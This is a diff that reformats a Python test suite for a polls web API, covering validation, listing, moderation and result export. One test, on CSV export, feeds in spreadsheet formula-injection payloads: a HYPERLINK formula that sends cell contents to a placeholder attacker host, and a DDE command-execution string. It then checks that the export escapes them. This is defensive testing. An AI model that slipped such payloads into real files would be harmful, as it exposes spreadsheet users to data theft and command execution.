@@ -36,10 +36,14 @@ def test_polls_can_be_created_with_an_options_list_of_up_to_ten(client):
     assert [o["text"] for o in created["options"]][-1] == "1990s"
     body["options"].append("2000s")
     response = client.post("/polls", json.dumps(body), content_type="application/json")
-    assert (response.status_code, response.json()) == (400, {"options": ["A poll has 2 to 10 options; this one has 11."]})
+    assert (response.status_code, response.json()) == (
+        400,
+        {"options": ["A poll has 2 to 10 options; this one has 11."]},
+    )
     both = {"question": "q", "options": ["a", "b"], "option1": "c", "option2": "d"}
     assert client.post("/polls", json.dumps(both), content_type="application/json").json() == {
-        "options": ["Give options either as a list or as option1..optionN, not both."]}
+        "options": ["Give options either as a list or as option1..optionN, not both."]
+    }
 
 
 def test_polls_are_listed_paginated_filtered_and_searched(client):
@@ -65,12 +69,19 @@ def test_polls_are_listed_paginated_filtered_and_searched(client):
 def test_ordered_by_total_a_poll_holding_its_counts_back_comes_last_and_gives_nothing_away(client):
     """Ranked by its real total among the others, an after_close poll's place told its
     total: a poll of one's own, voted up one vote at a time, passed it at that total."""
-    five, hidden, one = (poll_create(question=question, options=("a", "b"), results_visibility=visibility)
-                         for question, visibility in (("five", Poll.Visibility.ALWAYS),
-                                                      ("hidden", Poll.Visibility.AFTER_CLOSE),
-                                                      ("one", Poll.Visibility.ALWAYS)))
-    votes_apply(events=[vote_event(five, 1) for _ in range(5)] + [vote_event(hidden, 2) for _ in range(100)]
-                + [vote_event(one, 1)])
+    five, hidden, one = (
+        poll_create(question=question, options=("a", "b"), results_visibility=visibility)
+        for question, visibility in (
+            ("five", Poll.Visibility.ALWAYS),
+            ("hidden", Poll.Visibility.AFTER_CLOSE),
+            ("one", Poll.Visibility.ALWAYS),
+        )
+    )
+    votes_apply(
+        events=[vote_event(five, 1) for _ in range(5)]
+        + [vote_event(hidden, 2) for _ in range(100)]
+        + [vote_event(one, 1)]
+    )
 
     def order(ordering):
         return [poll["id"] for poll in client.get(f"/polls?ordering={ordering}").json()["results"]]
@@ -101,8 +112,10 @@ def test_a_poll_holding_its_counts_back_shows_a_version_that_tells_nothing_of_th
 
 
 def test_a_page_of_after_vote_polls_asks_once_whether_the_viewer_voted(client):
-    polls = [poll_create(question=f"q{n}", options=("a", "b"), results_visibility=Poll.Visibility.AFTER_VOTE)
-             for n in range(6)]
+    polls = [
+        poll_create(question=f"q{n}", options=("a", "b"), results_visibility=Poll.Visibility.AFTER_VOTE)
+        for n in range(6)
+    ]
     with CaptureQueriesContext(connection) as one_poll:
         assert client.get("/polls?search=q0").status_code == 200
     with CaptureQueriesContext(connection) as six_polls:
@@ -125,11 +138,16 @@ def test_close_and_reopen_need_staff_or_the_creator_and_are_audited(client):
     reopened = client.post(f"/polls/{poll.pk}/reopen", **token_header(staff))
     assert (reopened.status_code, reopened.json()["status"]) == (200, "open")
     assert [(e.action, e.actor.username) for e in AuditEntry.objects.order_by("id")] == [
-        ("close", "creator"), ("reopen", "staff")]
+        ("close", "creator"),
+        ("reopen", "staff"),
+    ]
     # A poll staff closed (for abuse, say) stays closed to its creator.
     assert client.post(f"/polls/{poll.pk}/close", **token_header(staff)).status_code == 200
     refused = client.post(f"/polls/{poll.pk}/reopen", **token_header(creator))
-    assert (refused.status_code, refused.json()) == (403, {"detail": "A moderator closed this poll: only staff may reopen it."})
+    assert (refused.status_code, refused.json()) == (
+        403,
+        {"detail": "A moderator closed this poll: only staff may reopen it."},
+    )
     assert client.post(f"/polls/{poll.pk}/reopen", **token_header(staff)).status_code == 200
     assert client.post(f"/polls/{poll.pk}/close", **token_header(creator)).status_code == 200
     assert client.post(f"/polls/{poll.pk}/reopen", **token_header(creator)).status_code == 200
@@ -155,10 +173,12 @@ def test_results_export_as_csv_and_json(client):
 
 
 def test_a_text_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client):
-    poll = poll_create(question="=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
-                       options=("@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2", "Plain"))
+    poll = poll_create(
+        question='=HYPERLINK("http://evil.example/?"&A1,"open")',
+        options=("@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2", "Plain"),
+    )
     rows = list(csv.reader(io.StringIO(client.get(f"/polls/{poll.pk}/export.csv").content.decode())))
-    assert {row[1] for row in rows[1:]} == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"}
+    assert {row[1] for row in rows[1:]} == {'\'=HYPERLINK("http://evil.example/?"&A1,"open")'}
     assert [row[3] for row in rows[1:]] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1", "'-2", "Plain"]
     # The JSON export is data, not a sheet: the texts are as they were given.
     exported = client.get(f"/polls/{poll.pk}/export.json").json()
